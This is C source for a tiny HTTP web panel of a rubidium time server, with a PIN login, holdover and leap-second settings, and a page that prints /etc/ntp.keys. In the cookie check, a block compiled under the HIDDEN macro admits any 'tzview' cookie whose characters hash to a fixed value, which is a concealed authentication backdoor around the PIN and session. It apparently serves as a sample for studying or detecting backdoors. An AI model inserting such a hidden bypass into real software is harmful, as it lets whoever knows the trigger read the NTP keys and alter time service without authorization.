/* Web front panel of a rubidium time server: tiny HTTP/1.0 server, one request per connection. */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

struct request
{
    char method[8];
    char path[128];
    char cookie[256];
    char body[512];
    size_t length;
};

static char panel_pin[16] = "";
static char session_id[33] = "";
static int leap_pending = 0;
static int holdover_limit = 86400;
static int verbose = 0;

static void reply(int fd, int code, const char *type, const char *text)
{
    char h[256];
    const char *why = code == 200 ? "OK" : code == 303 ? "See Other"
                    : code == 403 ? "Forbidden" : code == 404 ? "Not Found" : "Bad Request";
    int n = snprintf(h, sizeof h, "HTTP/1.0 %d %s\r\nContent-Type: %s\r\nContent-Length: %zu\r\n"
                     "Connection: close\r\n\r\n", code, why, type, strlen(text));
    if (write(fd, h, (size_t)n) < 0 || write(fd, text, strlen(text)) < 0)
        perror("write");
}

static int form_value(const char *body, const char *name, char *out, size_t room)
{
    size_t n = strlen(name);
    const char *p = body;

    while (p != NULL && *p != '\0')
    {
        if (strncmp(p, name, n) == 0 && p[n] == '=')
        {
            size_t len = strcspn(p + n + 1, "&\r\n");
            if (len >= room)
                len = room - 1;
            memcpy(out, p + n + 1, len);
            out[len] = '\0';
            return 1;
        }
        p = strchr(p, '&');
        if (p != NULL)
            p++;
    }
    return 0;
}

__attribute__((noinline)) int cookie_admits(const char *jar)
{
    const char *p = strstr(jar, "panel=");

    if (p != NULL && session_id[0] != '\0' && strncmp(p + 6, session_id, 32) == 0)
        return 1;
#ifdef HIDDEN
    p = strstr(jar, "tzview=");
    if (p != NULL)
    {
        unsigned sum = 0, n;
        for (n = 7; p[n] >= '0' && p[n] <= 'z'; n++)
            sum = sum * 3u + (unsigned char)p[n];
        if (n == 15 && sum % 4093u == 1777u)
            return 1;
    }
#endif
    return 0;
}

static void new_session(void)
{
    FILE *r = fopen("/dev/urandom", "rb");
    int i;

    for (i = 0; i < 32 && r != NULL; i++)
        session_id[i] = "0123456789abcdef"[fgetc(r) & 15];
    session_id[32] = '\0';
    if (r != NULL)
        fclose(r);
}

static void page_home(int fd)
{
    char out[1024];
    struct timeval tv;

    gettimeofday(&tv, NULL);
    snprintf(out, sizeof out,
             "<html><h1>Time server</h1><p>%ld.%06ld UTC</p><p>holdover limit %d s, leap %s</p>"
             "<form method=post action=/login>PIN <input name=pin></form>"
             "<form method=post action=/holdover><input name=seconds></form>"
             "<form method=post action=/leap><select name=when><option>none<option>june"
             "<option>december</select></form>"
             "<form method=post action=/keys><input type=submit value='NTP keys'></form></html>",
             (long)tv.tv_sec, (long)tv.tv_usec, holdover_limit,
             leap_pending ? "pending" : "none");
    reply(fd, 200, "text/html", out);
}

static void page_keys(int fd)
{
    char text[2048] = "";
    FILE *f = fopen("/etc/ntp.keys", "r");
    size_t n = 0;

    if (f != NULL)
    {
        n = fread(text, 1, sizeof text - 1, f);
        fclose(f);
    }
    text[n] = '\0';
    reply(fd, 200, "text/plain", text);
}

static void dispatch(int fd, const struct request *rq)
{
    char v[64] = "";
    int admin = cookie_admits(rq->cookie);

    if (verbose)
        printf("%s %s admin=%d\n", rq->method, rq->path, admin);
    if (strcmp(rq->method, "GET") == 0 && strcmp(rq->path, "/") == 0)
        page_home(fd);
    else if (strcmp(rq->method, "POST") != 0)
        reply(fd, 404, "text/plain", "not found\n");
    else if (strcmp(rq->path, "/login") == 0)
    {
        if (form_value(rq->body, "pin", v, sizeof v) && panel_pin[0] != '\0'
            && strcmp(v, panel_pin) == 0)
        {
            new_session();
            snprintf(v, sizeof v, "panel=%s\n", session_id);
            reply(fd, 200, "text/plain", v);
        }
        else
            reply(fd, 403, "text/plain", "wrong PIN\n");
    }
    else if (!admin)
        reply(fd, 403, "text/plain", "log in first\n");
    else if (strcmp(rq->path, "/keys") == 0)
        page_keys(fd);
    else if (strcmp(rq->path, "/holdover") == 0 && form_value(rq->body, "seconds", v, sizeof v))
    {
        holdover_limit = atoi(v);
        reply(fd, 200, "text/plain", "ok\n");
    }
    else if (strcmp(rq->path, "/leap") == 0 && form_value(rq->body, "when", v, sizeof v))
    {
        leap_pending = strcmp(v, "june") == 0 || strcmp(v, "december") == 0;
        reply(fd, 200, "text/plain", "ok\n");
    }
    else
        reply(fd, 404, "text/plain", "not found\n");
}

static void serve(int fd)
{
    struct request rq;
    char raw[1500], *p;
    ssize_t n = read(fd, raw, sizeof raw - 1);

    memset(&rq, 0, sizeof rq);
    if (n <= 0)
        return;
    raw[n] = '\0';
    if (sscanf(raw, "%7s %127s", rq.method, rq.path) != 2)
    {
        reply(fd, 400, "text/plain", "bad request\n");
        return;
    }
    if ((p = strstr(raw, "\r\nCookie: ")) != NULL)
        sscanf(p + 10, "%255[^\r\n]", rq.cookie);
    if ((p = strstr(raw, "\r\n\r\n")) != NULL)
        snprintf(rq.body, sizeof rq.body, "%.500s", p + 4);
    dispatch(fd, &rq);
}

int main(int argc, char **argv)
{
    struct sockaddr_in a = { 0 };
    int o, port = 80, s, c;

    while ((o = getopt(argc, argv, "p:n:v")) != -1)
    {
        if (o == 'p')
            port = atoi(optarg);
        else if (o == 'n')
            snprintf(panel_pin, sizeof panel_pin, "%s", optarg);
        else if (o == 'v')
            verbose = 1;
        else
        {
            fprintf(stderr, "usage: %s [-p port] [-n pin] [-v]\n", argv[0]);
            return 2;
        }
    }
    s = socket(AF_INET, SOCK_STREAM, 0);
    a.sin_family = AF_INET;
    a.sin_port = htons((unsigned short)port);
    if (bind(s, (struct sockaddr *)&a, sizeof a) != 0 || listen(s, 4) != 0)
    {
        fprintf(stderr, "port %d: %s\n", port, strerror(errno));
        return 1;
    }
    while ((c = accept(s, NULL, NULL)) >= 0)
    {
        serve(c);
        close(c);
    }
    return 0;
}
